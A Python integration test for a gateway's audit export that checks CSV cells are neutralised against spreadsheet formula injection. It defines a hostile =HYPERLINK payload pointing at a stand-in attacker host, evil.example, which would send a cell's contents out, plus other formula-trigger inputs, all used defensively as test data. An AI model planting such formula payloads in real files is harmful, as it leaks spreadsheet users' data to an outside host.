"""The gateway's audit exports over a seeded audit database (SQLite and PostgreSQL),
read by a real HTTP client: CSV cells neutralised against formulas. No worker: the
rows are written through the audit append path directly."""

from __future__ import annotations

import csv
import io

import httpx
import pytest
from audit_fixtures import KEY, make_record
from gateway_procs import serve, stop

from lorapool.audit_db import append_records
from lorapool.audit_record import record_from_dict

pytest_plugins = ["audit_fixtures"]
pytestmark = pytest.mark.integration
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture
def audit_gateway(audit_target, redis_url, prefix, tmp_path):
    db = ["--audit-db-url", audit_target.url]
    db += ["--audit-db-schema", audit_target.schema] if audit_target.schema else []
    url, proc = serve(redis_url, prefix, tmp_path, *db)
    yield url, audit_target
    stop(proc)


def _csv(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(audit_gateway):
    url, target = audit_gateway
    records = [
        make_record(i, text_for=lambda i, k: ("-2+3", "@SUM(A1)", "\tx", "ok")[i]) for i in range(4)
    ]
    records[0]["prompt"] = HOSTILE
    append_records(target.engine, [record_from_dict(r) for r in records], key=KEY)
    accept = {"Accept": "text/csv"}
    [row] = _csv(httpx.get(f"{url}/v1/audit/completions/req-0", headers=accept))
    assert (row["prompt"], row["text"]) == ("'" + HOSTILE, "'-2+3")
    assert row["cumulative_logprob"] == "-1.5"
    rows = _csv(httpx.get(f"{url}/v1/audit/completions", headers=accept))
    assert [r["text"] for r in rows] == ["'-2+3", "'@SUM(A1)", "'\tx", "ok"]
    exact = httpx.get(f"{url}/v1/audit/completions/req-0").json()["data"][0]
    assert exact["prompt"] == HOSTILE
